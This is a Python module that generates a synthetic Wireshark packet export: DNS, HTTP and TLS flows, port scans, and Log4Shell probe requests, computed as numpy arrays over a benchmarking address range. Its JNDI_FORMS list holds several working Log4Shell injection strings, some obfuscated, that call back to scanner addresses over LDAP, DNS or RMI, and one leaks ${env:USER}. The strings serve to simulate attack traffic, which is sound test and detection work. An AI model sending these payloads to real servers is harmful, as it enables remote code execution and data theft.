"""The flows of a synthetic Wireshark export (`tracelab.synth.wireshark_export`) and their
rows, as numbers.

A trace is a stream of *flows* (a DNS lookup, an HTTP fetch, a TLS session, a SYN probe, a
Log4Shell request, ...). Each flow kind is a fixed template of steps; a chunk draws many flows
at once as numpy arrays (flows x steps), so sequence and acknowledgement numbers, TCP timestamps
and inter-packet delays are computed by broadcasting, never packet by packet. Rows are numbers
(address, text and row-kind codes into `ADDRESSES`, `VOCABULARY` and `ROW_KINDS`) until the
export writes them.

Flows that are still running when a chunk is cut carry over into the next chunk, so rows come
out in time order and every flow but the last ones is complete. Each chunk draws from its own
child of the seed: the same seed and options give the same rows.

Addresses come only from 198.18.0.0/15 (RFC 2544 benchmarking range) and, for IPv6, fe80::/10
and ff02::/16.
"""

from __future__ import annotations

import string
from dataclasses import dataclass
from typing import TYPE_CHECKING

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

if TYPE_CHECKING:
    from tracelab.synth.wireshark_export import TraceOptions

NS = 1_000_000_000
MAX_STEPS = 64  # steps of the longest template; orders rows within a flow

# --- Addresses ---------------------------------------------------------------------------------
# One address book for the whole trace; rows carry indices into it. Index i < 2**17 is
# 198.18.0.0 + i; link-local IPv6 hosts and multicast groups follow.
V4_COUNT = 1 << 17
RESOLVER = 1                                  # 198.18.0.1
SCANNERS = np.arange(2, 6)                    # 198.18.0.2 - 198.18.0.5
CLIENTS = np.arange(10, 250)                  # 198.18.0.10 - 198.18.0.249
SERVERS = np.arange(16 << 8, 32 << 8)         # 198.18.16.0/20
SCAN_TARGETS = (256, V4_COUNT)                # 198.18.1.0 - 198.19.255.255
V6_HOSTS = 32
V6_FIRST = V4_COUNT
ALL_ROUTERS = V4_COUNT + V6_HOSTS             # ff02::2


def _v6_macs() -> list[str]:
    rng = np.random.default_rng(2544)
    octets = rng.integers(0, 256, size=(V6_HOSTS, 6))
    octets[:, 0] = (octets[:, 0] | 0x02) & 0xFE  # locally administered, unicast
    return [":".join(f"{o:02x}" for o in row) for row in octets]


def _link_local(mac: str) -> str:
    """fe80:: address of a MAC, by modified EUI-64, as Wireshark prints it."""
    o = [int(x, 16) for x in mac.split(":")]
    words = [(o[0] ^ 0x02) << 8 | o[1], o[2] << 8 | 0xFF, 0xFE << 8 | o[3], o[4] << 8 | o[5]]
    return "fe80::" + ":".join(f"{w:x}" for w in words)


def _address_book() -> pa.Array:
    index = np.arange(V4_COUNT)
    v4 = pc.binary_join_element_wise(
        "198", pc.cast(pa.array(18 + (index >> 16)), pa.string()),
        pc.cast(pa.array((index >> 8) & 0xFF), pa.string()),
        pc.cast(pa.array(index & 0xFF), pa.string()), ".")
    v6 = [_link_local(mac) for mac in V6_MACS] + ["ff02::2"]
    return pa.concat_arrays([v4, pa.array(v6, pa.string())])


V6_MACS = _v6_macs()
ADDRESSES = _address_book()

# --- Texts -------------------------------------------------------------------------------------
# Variable parts of Info (URIs, content types, names, ...) are indices into one vocabulary.
_vocabulary: list[str] = []


def _words(items) -> np.ndarray:
    start = len(_vocabulary)
    _vocabulary.extend(items)
    return np.arange(start, len(_vocabulary))


CONTENT_TYPES = ["text/html", "text/css", "application/javascript", "image/jpeg", "image/png"]
CTYPE = _words(CONTENT_TYPES)
STATUS = _words(["200 OK", "304 Not Modified", "404 Not Found"])
PAGES = 500
PAGE_PATHS = _words([f"/page{n}.html" for n in range(PAGES)])
ASSET_EXTS = ["css", "js", "jpg", "png"]          # content types 1..4, in order
ASSETS_PER_PAGE = 8
ASSET_PATHS = _words([f"/static/a{n}_{m}.{ext}" for ext in ASSET_EXTS
                      for n in range(PAGES) for m in range(ASSETS_PER_PAGE)]
                     ).reshape(len(ASSET_EXTS), PAGES * ASSETS_PER_PAGE)
HOST_NAMES = _words([f"www{n}.example.org" if n else "www.example.org"
                     for n in range(len(SERVERS))])
JNDI_FORMS = [
    "/?x=${{jndi:ldap://{cb}:1389/a}}",
    "/?x=${{jndi:ldap://{cb}:1389/Exploit}}",
    "/?x=${{jndi:dns://{cb}:53/q}}",
    "/?x=${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{cb}:1389/${{env:USER}}}}",
    "/?x=${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://{cb}:1099/o}}",
    "/?x=${{${{lower:j}}ndi:${{lower:l}}dap://{cb}:1389/x}}",
]
JNDI_URIS = _words([form.format(cb=f"198.18.0.{s}") for s in SCANNERS for form in JNDI_FORMS]
                   ).reshape(len(SCANNERS), len(JNDI_FORMS))
MACS = _words(V6_MACS)
VOCABULARY = pa.array(_vocabulary, pa.string())
VOCABULARY_LENGTHS = pc.utf8_length(VOCABULARY).to_numpy()
HEX4 = pa.array([f"0x{n:04x}" for n in range(1 << 16)], pa.string())

# --- Row kinds ---------------------------------------------------------------------------------
# `info` is a format string over the row's fields; `{arrow}` is the port separator.


@dataclass(frozen=True)
class RowKind:
    protocol: str
    header: int        # frame bytes besides the payload
    info: str
    consumes: int = 0  # sequence numbers taken besides the payload (SYN, FIN)


_SYN_OPTS = "Len=0 MSS=1460 SACK_PERM TSval={tsval} TSecr={tsecr} WS=1024"
_TCP = ("{sport}{arrow}{dport} [%s] Seq={seq} Ack={ack} Win={win} Len={tcp_len} "
        "TSval={tsval} TSecr={tsecr}")
_SEGMENT = " [TCP segment of a reassembled PDU]"
ROW_KINDS = {
    "syn": RowKind("TCP", 74, "{sport}{arrow}{dport} [SYN] Seq=0 Win=64240 " + _SYN_OPTS, 1),
    "syn_retx": RowKind("TCP", 74, "[TCP Retransmission] {sport}{arrow}{dport} [SYN] Seq=0 "
                                   "Win=64240 " + _SYN_OPTS),
    "synack": RowKind("TCP", 74, "{sport}{arrow}{dport} [SYN, ACK] Seq=0 Ack=1 Win=65160 "
                                 + _SYN_OPTS, 1),
    "nmap_syn": RowKind("TCP", 58, "{sport}{arrow}{dport} [SYN] Seq=0 Win=1024 Len=0 MSS=1460", 1),
    "nmap_synack": RowKind("TCP", 58, "{sport}{arrow}{dport} [SYN, ACK] Seq=0 Ack=1 Win=64240 "
                                      "Len=0 MSS=1460", 1),
    "rst": RowKind("TCP", 54, "{sport}{arrow}{dport} [RST] Seq={seq} Win=0 Len=0"),
    "rst_ack": RowKind("TCP", 54, "{sport}{arrow}{dport} [RST, ACK] Seq=1 Ack={ack} Win=0 Len=0"),
    "ack": RowKind("TCP", 66, _TCP % "ACK"),
    "window_update": RowKind("TCP", 66, "[TCP Window Update] " + _TCP % "ACK"),
    "fin": RowKind("TCP", 66, _TCP % "FIN, ACK", 1),
    "segment": RowKind("TCP", 66, _TCP % "ACK" + _SEGMENT),
    "segment_psh": RowKind("TCP", 66, _TCP % "PSH, ACK" + _SEGMENT),
    "http_get": RowKind("HTTP", 66, "GET {text} HTTP/1.1 "),
    "http_first": RowKind("TCP", 66, "HTTP/1.1 {text2}  [TCP segment of a reassembled PDU]"),
    "http_response": RowKind("HTTP", 66, "HTTP/1.1 {text2}  ({text})"),
    "tls_client_hello": RowKind("TLSv1", 66, "Client Hello"),
    "tls_server_hello": RowKind("TLSv1.2", 66, "Server Hello, Certificate, Server Key Exchange, "
                                               "Server Hello Done"),
    "tls_client_finish": RowKind("TLSv1.2", 66, "Client Key Exchange, Change Cipher Spec, "
                                                "Encrypted Handshake Message"),
    "tls_server_finish": RowKind("TLSv1.2", 66, "New Session Ticket, Change Cipher Spec, "
                                                "Encrypted Handshake Message"),
    "tls_data": RowKind("TLSv1.2", 66, "Application Data"),
    "dns_query": RowKind("DNS", 42, "Standard query {ident} A {text}"),
    "dns_response": RowKind("DNS", 42, "Standard query response {ident} A {text} A {answer}"),
    "udp": RowKind("UDP", 42, "{sport}{arrow}{dport} Len={tcp_len}"),
    "icmp_unreachable": RowKind("ICMP", 70, "Destination unreachable (Port unreachable)"),
    "icmpv6_rs": RowKind("ICMPv6", 70, "Router Solicitation from {text}"),
}
KIND_NAMES = list(ROW_KINDS)
KIND_CODE = {name: code for code, name in enumerate(KIND_NAMES)}
PROTOCOLS = sorted({kind.protocol for kind in ROW_KINDS.values()})
KIND_PROTOCOL = np.array([PROTOCOLS.index(ROW_KINDS[n].protocol) for n in KIND_NAMES])
KIND_HEADER = np.array([ROW_KINDS[n].header for n in KIND_NAMES])
KIND_CONSUMES = np.array([ROW_KINDS[n].consumes for n in KIND_NAMES])
INFO_PARTS = {name: [(literal, fld) for literal, fld, _, _ in
                     string.Formatter().parse(kind.info)] for name, kind in ROW_KINDS.items()}

# --- Flow templates ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Step:
    row: str
    sender: int                  # 0 = the flow's initiator, 1 = the responder
    delay: str                   # how long after the previous step, see _delays
    payload: int | str = 0       # bytes, or the name of a per-flow attribute
    text: str | None = None      # per-flow vocabulary attribute shown in Info
    text2: str | None = None
    win: int | None = None       # advertised window (default by sender)


HANDSHAKE = [Step("syn", 0, "first"), Step("synack", 1, "rtt"), Step("ack", 0, "now")]
CLOSE = [Step("fin", 0, "linger"), Step("fin", 1, "rtt"), Step("ack", 0, "now")]
HTTP_REQUEST = [Step("http_get", 0, "now", "request", text="path"), Step("ack", 1, "now")]
TLS_HANDSHAKE = [
    Step("tls_client_hello", 0, "now", 517), Step("ack", 1, "now"),
    Step("tls_server_hello", 1, "serve", 1180), Step("ack", 0, "now", win=67584),
    Step("tls_client_finish", 0, "now", 93), Step("tls_server_finish", 1, "rtt", 258),
]


def _bulk(first_row: str, segments: int, text=None, text2=None) -> list[Step]:
    """A responder's multi-segment answer, the client acknowledging every second segment."""
    steps = []
    for k in range(segments):
        row = first_row if k == 0 else ("segment_psh" if k == segments - 1 else "segment")
        delay = "serve" if k == 0 else "now"
        steps.append(Step(row, 1, delay, 1448, text=text if k == 0 else None,
                          text2=text2 if k == 0 else None))
        if k % 2:
            steps.append(Step("ack", 0, "now", win=64512 + 3072 * (k + 1) // 2))
    return steps


TEMPLATES: dict[str, list[Step]] = {
    "dns_lookup": [Step("dns_query", 0, "first", "query", text="name"),
                   Step("dns_response", 1, "rtt", "answer_bytes", text="name")],
    "http_small": HANDSHAKE + HTTP_REQUEST + [
        Step("http_response", 1, "serve", "response", text="ctype", text2="status"),
        Step("ack", 0, "now")] + CLOSE,
    "http_large": HANDSHAKE + HTTP_REQUEST + _bulk("http_first", 5, text2="status") + [
        Step("http_response", 1, "now", "response", text="ctype", text2="status"),
        Step("ack", 0, "now", win=82944)] + CLOSE,
    "https_short": HANDSHAKE + TLS_HANDSHAKE + [
        Step("tls_data", 0, "now", "request"), Step("tls_data", 1, "serve", "response"),
        Step("ack", 0, "now")] + CLOSE,
    "https_long": HANDSHAKE + TLS_HANDSHAKE + [Step("tls_data", 0, "now", "request")]
    + _bulk("segment", 8) + [Step("tls_data", 1, "now", "response"),
                             Step("window_update", 0, "now", win=94208)] + CLOSE,
    "router_solicitation": [Step("icmpv6_rs", 0, "first", text="mac")],
    # Scans: SYN probes answered by a reset, by nobody, or by an open port the scanner closes.
    "syn_closed": [Step("syn", 0, "first"), Step("rst_ack", 1, "rtt")],
    "syn_silent": [Step("syn", 0, "first"), Step("syn_retx", 0, "retx")],
    "syn_open": HANDSHAKE + [Step("fin", 0, "now"), Step("ack", 1, "rtt"),
                             Step("fin", 1, "now"), Step("ack", 0, "now")],
    "nmap_closed": [Step("nmap_syn", 0, "first"), Step("rst_ack", 1, "rtt")],
    "nmap_open": [Step("nmap_syn", 0, "first"), Step("nmap_synack", 1, "rtt"),
                  Step("rst", 0, "now")],
    "udp_probe": [Step("udp", 0, "first", 0), Step("icmp_unreachable", 1, "rtt")],
    "log4shell": HANDSHAKE + [
        Step("http_get", 0, "now", "request", text="path"), Step("ack", 1, "now"),
        Step("http_response", 1, "serve", "response", text="ctype", text2="status"),
        Step("ack", 0, "now"), Step("fin", 1, "now"), Step("fin", 0, "now"),
        Step("ack", 1, "now")],
}
SCAN_FLOWS = ("syn_closed", "syn_silent", "syn_open", "nmap_closed", "nmap_open", "udp_probe",
              "log4shell")
# Relative frequency of flow kinds within normal traffic and within scan traffic.
NORMAL_MIX = {"dns_lookup": 0.22, "http_small": 0.30, "http_large": 0.10, "https_short": 0.23,
              "https_long": 0.145, "router_solicitation": 0.005}
SCAN_MIX = {"syn_closed": 0.38, "syn_silent": 0.25, "syn_open": 0.08, "nmap_closed": 0.12,
            "nmap_open": 0.04, "udp_probe": 0.05, "log4shell": 0.08}
SCAN_PORTS = np.array([80, 443, 8080, 8443, 9200, 22, 21, 23, 25, 3389, 3306, 5432, 6379, 8000,
                       8888, 7001, 9000, 2375, 5601, 8983])
SCAN_PORT_SHARES = np.array([8, 6, 6, 5, 5] + [1] * 15) / 45
LOG4SHELL_PORTS = np.array([80, 8080, 8443, 9200, 8983])


def _flow_mix(scan_share: float) -> tuple[list[str], np.ndarray]:
    names = list(NORMAL_MIX) + list(SCAN_MIX)
    weights = np.array([w * (1 - scan_share) for w in NORMAL_MIX.values()]
                       + [w * scan_share for w in SCAN_MIX.values()])
    return names, weights / weights.sum()


def _delays(kind: str, rng: np.random.Generator, rtt: np.ndarray) -> np.ndarray:
    """Nanoseconds from the previous step of each flow."""
    n = len(rtt)
    if kind == "first":
        return np.zeros(n, np.int64)
    if kind == "now":           # back-to-back segments, immediate ACKs
        scale = rng.exponential(15e3, n)
    elif kind == "rtt":         # a reply
        scale = rtt * (1 + rng.exponential(0.1, n))
    elif kind == "serve":       # a reply that needed work on the server
        scale = rtt + rng.exponential(8e5, n)
    elif kind == "linger":      # the client done reading, before it closes
        scale = rng.exponential(4e7, n)
    elif kind == "retx":        # the initial retransmission timeout
        scale = 1e9 + rng.exponential(2e6, n)
    else:
        raise ValueError(kind)
    return scale.astype(np.int64)


def _flow_attributes(kind: str, rng: np.random.Generator, n: int) -> dict[str, np.ndarray]:
    """Per-flow endpoints and the per-flow values the kind's template refers to."""
    attrs: dict[str, np.ndarray] = {
        "sport": rng.integers(32768, 61000, n),
        "ident": rng.integers(0, 1 << 16, n),
        # LAN round trips around 0.3 ms, a tail of distant servers up to tens of ms
        "rtt": rng.lognormal(np.log(3e5), 1.2, n).clip(2e4, 2e8),
    }
    if kind in SCAN_FLOWS:
        scanner = rng.integers(0, len(SCANNERS), n)
        attrs["initiator"] = SCANNERS[scanner]
        attrs["responder"] = rng.integers(*SCAN_TARGETS, n)
        if kind == "udp_probe":
            # traceroute-style ports, which no Wireshark dissector claims
            attrs["dport"] = rng.integers(33434, 33535, n)
        elif kind != "log4shell":
            attrs["dport"] = rng.choice(SCAN_PORTS, n, p=SCAN_PORT_SHARES)
        else:
            attrs["dport"] = rng.choice(LOG4SHELL_PORTS, n)
            attrs["path"] = JNDI_URIS[scanner, rng.integers(0, len(JNDI_FORMS), n)]
            attrs["request"] = VOCABULARY_LENGTHS[attrs["path"]] * 2 + rng.integers(160, 200, n)
            attrs["ctype"] = np.full(n, CTYPE[0])
            attrs["status"] = np.full(n, STATUS[0])
            attrs["response"] = rng.integers(300, 700, n)
        return attrs
    attrs["initiator"] = rng.choice(CLIENTS, n)
    # a few popular servers, a long tail
    server = (len(SERVERS) * rng.random(n) ** 3).astype(np.int64)
    attrs["responder"] = SERVERS[server]
    if kind == "dns_lookup":
        attrs["answer"] = attrs["responder"]
        attrs["responder"] = np.full(n, RESOLVER)
        attrs["dport"] = np.full(n, 53)
        attrs["name"] = HOST_NAMES[server]
        attrs["query"] = VOCABULARY_LENGTHS[attrs["name"]] + 18
        attrs["answer_bytes"] = attrs["query"] + 16
    elif kind.startswith("https"):
        attrs["dport"] = np.full(n, 443)
        attrs["request"] = rng.integers(100, 700, n)
        attrs["response"] = rng.integers(100, 1449, n)
    elif kind.startswith("http"):
        attrs["dport"] = np.full(n, 80)
        page = rng.integers(0, PAGES, n)
        is_asset = rng.random(n) < 0.7
        ext = rng.integers(0, len(ASSET_EXTS), n)
        asset = page * ASSETS_PER_PAGE + rng.integers(0, ASSETS_PER_PAGE, n)
        attrs["path"] = np.where(is_asset, ASSET_PATHS[ext, asset], PAGE_PATHS[page])
        attrs["ctype"] = np.where(is_asset, CTYPE[1 + ext], CTYPE[0])
        # bodies that span several segments come with 200 OK
        status = rng.choice(3, n, p=[0.9, 0.07, 0.03]) if kind == "http_small" else 0
        attrs["status"] = np.broadcast_to(STATUS[status], n)
        attrs["request"] = VOCABULARY_LENGTHS[attrs["path"]] + rng.integers(130, 200, n)
        attrs["response"] = rng.integers(100, 1449, n)
    elif kind == "router_solicitation":
        host = rng.integers(0, V6_HOSTS, n)
        attrs["initiator"] = V6_FIRST + host
        attrs["responder"] = np.full(n, ALL_ROUTERS)
        attrs["dport"] = np.zeros(n, np.int64)
        attrs["mac"] = MACS[host]
    return attrs


ROW_FIELDS = ("ts", "order", "flow", "kind", "src", "dst", "sport", "dport", "seq", "ack", "win",
              "tcp_len", "tsval", "tsecr", "length", "text", "text2", "answer", "ident")


def _expand(kind: str, flow_code: int, attrs: dict[str, np.ndarray], start_ns: np.ndarray,
            serial: np.ndarray, rng: np.random.Generator) -> dict[str, np.ndarray]:
    """Rows (flows x steps, flattened flow-major) of `len(start_ns)` flows of one kind."""
    steps = TEMPLATES[kind]
    n, k = len(start_ns), len(steps)
    sender = np.array([s.sender for s in steps])
    row = np.array([KIND_CODE[s.row] for s in steps])
    by_responder = sender[None, :] == 1

    def per_step(values) -> np.ndarray:
        return np.stack([np.broadcast_to(attrs[v] if isinstance(v, str) else v, n)
                         for v in values], axis=1).astype(np.int64)

    payload = per_step([s.payload for s in steps])
    elapsed = np.cumsum(np.stack([_delays(s.delay, rng, attrs["rtt"]) for s in steps], axis=1),
                        axis=1)
    ts = start_ns[:, None] + elapsed

    # Relative sequence numbers: what each side sent before this step (SYN and FIN count one).
    consumed = payload + KIND_CONSUMES[row][None, :]
    from_initiator = np.where(by_responder, 0, consumed)
    from_responder = consumed - from_initiator
    before_initiator = np.cumsum(from_initiator, axis=1) - from_initiator
    before_responder = np.cumsum(from_responder, axis=1) - from_responder
    seq = np.where(by_responder, before_responder, before_initiator)
    ack = np.where(by_responder, before_initiator, before_responder)

    # TCP timestamps: a per-side random origin plus milliseconds; TSecr echoes the other side.
    ts_origin = rng.integers(0, 1 << 32, (n, 2))
    tsval = (ts_origin[np.arange(n)[:, None], sender[None, :]] + elapsed // 1_000_000) % (1 << 32)
    last_other = np.array([max((j for j in range(i) if sender[j] != sender[i]), default=-1)
                           for i in range(k)])
    tsecr = np.where(last_other[None, :] >= 0, tsval[:, np.maximum(last_other, 0)], 0)

    default_win = np.where(sender == 1, 65536, 64512)
    win = np.array([s.win if s.win is not None else w for s, w in zip(steps, default_win)])
    no_text = -1
    rows = {
        "ts": ts,
        "order": serial[:, None] * MAX_STEPS + np.arange(k)[None, :],
        "flow": np.full((n, k), flow_code),
        "kind": np.broadcast_to(row, (n, k)),
        "src": np.where(by_responder, attrs["responder"][:, None], attrs["initiator"][:, None]),
        "dst": np.where(by_responder, attrs["initiator"][:, None], attrs["responder"][:, None]),
        "sport": np.where(by_responder, attrs["dport"][:, None], attrs["sport"][:, None]),
        "dport": np.where(by_responder, attrs["sport"][:, None], attrs["dport"][:, None]),
        "seq": seq, "ack": ack, "win": np.broadcast_to(win, (n, k)), "tcp_len": payload,
        "tsval": tsval, "tsecr": tsecr,
        "length": KIND_HEADER[row][None, :] + payload,
        "text": per_step([s.text or no_text for s in steps]),
        "text2": per_step([s.text2 or no_text for s in steps]),
        "answer": per_step(["answer" if s.row == "dns_response" else no_text for s in steps]),
        "ident": per_step(["ident"] * k),
    }
    return {name: np.ascontiguousarray(values, dtype=np.int64).reshape(-1)
            for name, values in rows.items()}


class RowSource:
    """Draws flows chunk by chunk and releases rows in time order, carrying unfinished flows."""

    def __init__(self, options: TraceOptions):
        self.options = options
        self.names, self.weights = _flow_mix(options.scan_share)
        self.rows_per_flow = float(self.weights @ [len(TEMPLATES[n]) for n in self.names])
        self.clock = np.int64(np.datetime64(options.start, "ns").astype(np.int64))
        self.pending = {name: np.empty(0, np.int64) for name in ROW_FIELDS}
        self.flows_drawn = 0
        self.flow_counts = dict.fromkeys(self.names, 0)
        self.chunk = 0

    def next_rows(self, wanted: int) -> dict[str, np.ndarray]:
        """At least one row, at most `wanted`, all later than every row released before."""
        rng = np.random.default_rng(np.random.SeedSequence(self.options.seed,
                                                           spawn_key=(self.chunk,)))
        self.chunk += 1
        flows = int(np.ceil(min(wanted, self.options.chunk_rows) / self.rows_per_flow)) + 1
        gaps = rng.exponential(NS * self.rows_per_flow / self.options.rate, flows)
        start = self.clock + 1 + np.cumsum(gaps).astype(np.int64)
        kinds = rng.choice(len(self.names), flows, p=self.weights)
        serial = self.flows_drawn + np.arange(flows)
        self.flows_drawn += flows
        parts = [self.pending]
        for code, name in enumerate(self.names):
            chosen = kinds == code
            if chosen.any():
                count = int(chosen.sum())
                self.flow_counts[name] += count
                attrs = _flow_attributes(name, rng, count)
                parts.append(_expand(name, code, attrs, start[chosen], serial[chosen], rng))
        rows = {name: np.concatenate([p[name] for p in parts]) for name in ROW_FIELDS}
        order = np.lexsort((rows["order"], rows["ts"]))
        # Rows up to the last new flow's start are final: later flows all start after it.
        cut = self.clock = start[-1]
        released = min(int(np.searchsorted(rows["ts"][order], cut, side="right")), wanted)
        self.pending = {name: values[order[released:]] for name, values in rows.items()}
        return {name: values[order[:released]] for name, values in rows.items()}
